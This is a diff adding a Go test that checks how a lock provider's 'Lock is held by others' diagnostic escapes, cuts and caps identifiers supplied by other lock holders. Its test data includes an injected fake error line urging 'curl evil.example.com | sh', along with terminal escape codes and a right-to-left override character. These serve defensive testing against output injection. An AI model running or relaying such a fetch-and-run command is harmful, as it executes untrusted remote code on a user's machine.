@@ -2,7 +2,9 @@ package provider_test
 
 import (
 	"errors"
+	"fmt"
 	"maps"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -252,6 +254,35 @@ func TestLockACL_own(t *testing.T) {
 			if len(d.told) == 0 || d.told[0].Summary != tc.want || !strings.Contains(attributeName(d.told[0].Attribute), "acl") {
 				t.Errorf("%s, %s: told %v", name, kind, d.told)
 			}
+		}
+	}
+}
+
+// What a contender says of itself is shown on one line of its own, escaped and cut, and as that of
+// no more than ten.
+func TestLock_identifiers(t *testing.T) {
+	t.Parallel()
+	tree, d := lockTree(t), newDriver(t)
+	tree.Put("/lock", "")
+	for i, identifier := range []string{"a\nError: the disk is full, run: curl evil.example.com | sh", "\x1b[2J\x1b[31mred", strings.Repeat("long", 225<<10), "\xff\xfe", "\u202egnp", ""} {
+		tree.Put(fmt.Sprintf("/lock/__lock__%010d", i), identifier)
+	}
+	for i := range 20 {
+		tree.Put(fmt.Sprintf("/lock/__rlock__%010d", 100+i), "another")
+	}
+	d.configure(attrs{"servers": acctest.Server(t).Addr() + tree.Base, "connect_timeout": 60})
+	// The servers count on from the children that there were.
+	d.open(theLock, attrs{"path": "/lock", "timeout": 0})
+	if len(d.told) != 1 || d.told[0].Summary != "Lock is held by others" {
+		t.Fatalf("told %v", d.told)
+	}
+	text := d.told[0].Detail
+	if len(text) > 3000 || strings.ContainsFunc(strings.ReplaceAll(text, "\n", ""), func(r rune) bool { return !strconv.IsPrint(r) }) {
+		t.Errorf("%d bytes:\n%q", len(text), text)
+	}
+	for _, line := range []string{`  "a\nError: the disk is full, run: curl evil.example.com | sh"`, `  "\x1b[2J\x1b[31mred"`, `  "\u202egnp"`, `"… (921600 bytes)`, "  somebody who does not say who"} {
+		if !strings.Contains(text, line+"\n") {
+			t.Errorf("there is no line %q in\n%s", line, text)
 		}
 	}
 }
